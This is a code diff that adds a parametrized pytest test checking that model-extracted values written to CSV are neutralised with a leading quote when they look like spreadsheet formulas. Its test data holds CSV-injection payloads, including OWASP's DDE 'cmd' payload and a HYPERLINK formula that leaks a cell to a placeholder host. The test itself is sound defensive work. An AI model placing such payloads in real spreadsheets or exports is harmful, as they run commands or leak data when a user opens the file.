@@ -270,6 +270,32 @@ def test_limit_dry_run_and_lazy_inputs(stub: Any, tmp_path: Path) -> None:
     assert new[5][1] == "ROW" and new[6][1] == ""
 
 
+@pytest.mark.parametrize(
+    ("answer", "written"),
+    [
+        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),  # OWASP's DDE payload
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ('-.5+HYPERLINK("http://x?leak="&A2,"y")', '\'-.5+HYPERLINK("http://x?leak="&A2,"y")'),
+        ("- 1+cmd|x", "'- 1+cmd|x"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\n=1+1", "'\n=1+1"),
+        ("-5", "-5"),
+        ("+1,200.50", "+1,200.50"),
+        ("-3e4", "-3e4"),
+        ("-12%", "-12%"),
+        ("+44 (20) 7946-0958", "+44 (20) 7946-0958"),
+        ("-", "-"),
+        ("plain text", "plain text"),
+    ],
+)
+def test_model_output_never_reaches_a_spreadsheet_as_a_formula(
+    stub: Any, tmp_path: Path, answer: str, written: str
+) -> None:
+    source = write(tmp_path / "t.csv", "notes\na\n")
+    fill(source, target=Lead, sources=["notes"], extractor=stub(lambda t: {"company": answer}))
+    assert rows(tmp_path / "t.filled.csv")[1][1] == written
+
+
 def test_formula_like_output_is_neutralised(stub: Any, tmp_path: Path) -> None:
     source = write(tmp_path / "t.csv", "notes\na\nb\nc\n")
     replies = {"a": '=HYPERLINK("x")', "b": "+1 555 0100", "c": "-cmd|x"}
